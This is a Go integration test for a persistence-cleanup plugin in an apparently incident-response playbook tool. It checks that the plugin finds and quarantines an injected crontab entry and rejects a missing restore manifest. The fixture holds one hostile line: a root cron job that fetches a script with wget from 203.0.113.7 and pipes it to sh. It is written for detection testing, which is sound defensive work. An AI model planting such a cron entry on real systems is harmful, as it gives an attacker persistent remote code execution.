package persistplugin

import (
	"context"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/abusekit/abusekit/playbook"
	"github.com/abusekit/abusekit/playbook/plugintest"
	"github.com/abusekit/abusekit/plugins/persist"
	"github.com/abusekit/abusekit/plugins/persist/hosttest"
)

// The actions over the real plugin transport (go-plugin gRPC, reattached):
// find then clean in a playbook, then a restore whose error keeps its
// identity on the host.
func TestOverRealTransport(t *testing.T) {
	dir := t.TempDir()
	tree := hosttest.Debian12().Append("/etc/crontab", "* * * * * root wget -q -O - http://203.0.113.7/y.sh | sh\n", hosttest.InfectionTime)
	if err := hosttest.Write(dir, tree); err != nil {
		t.Fatal(err)
	}
	spec := plugintest.Serve(t, "persist", NewPlugin())
	run := func(steps ...playbook.Step) (*playbook.Run, error) {
		pb, err := playbook.New("clean", steps...)
		if err != nil {
			t.Fatal(err)
		}
		r, err := playbook.NewRunner(pb, playbook.Options{Incident: "case-1", Plugins: []playbook.PluginSpec{spec}, Approve: playbook.AutoApprove})
		if err != nil {
			t.Fatal(err)
		}
		defer r.Close()
		return r.Run(context.Background())
	}
	res, err := run(
		playbook.Step{ID: "find", Plugin: "persist", Action: "find", Input: map[string]any{"root": dir}},
		playbook.Step{ID: "clean", Plugin: "persist", Action: "clean", Input: map[string]any{"root": dir, "quarantine_dir": t.TempDir()}},
	)
	if err != nil {
		t.Fatal(err)
	}
	var found FindOutput
	if err := json.Unmarshal(res.Steps[0].Output, &found); err != nil || len(found.Findings) != 1 {
		t.Fatalf("find output %s: %v", res.Steps[0].Output, err)
	}
	var cleaned CleanOutput
	if err := json.Unmarshal(res.Steps[1].Output, &cleaned); err != nil || !strings.Contains(cleaned.ManifestPath, "case-1-") {
		t.Fatalf("clean output %s: %v", res.Steps[1].Output, err)
	}
	if b, _ := os.ReadFile(filepath.Join(dir, "etc/crontab")); strings.Contains(string(b), "203.0.113.7") {
		t.Error("not cleaned over the transport")
	}
	_, err = run(playbook.Step{ID: "restore", Plugin: "persist", Action: "restore", Input: map[string]any{"manifest": filepath.Join(t.TempDir(), "missing.json")}})
	if !errors.Is(err, persist.ErrBadManifest) {
		t.Fatalf("err = %v, want persist.ErrBadManifest across the transport", err)
	}
}
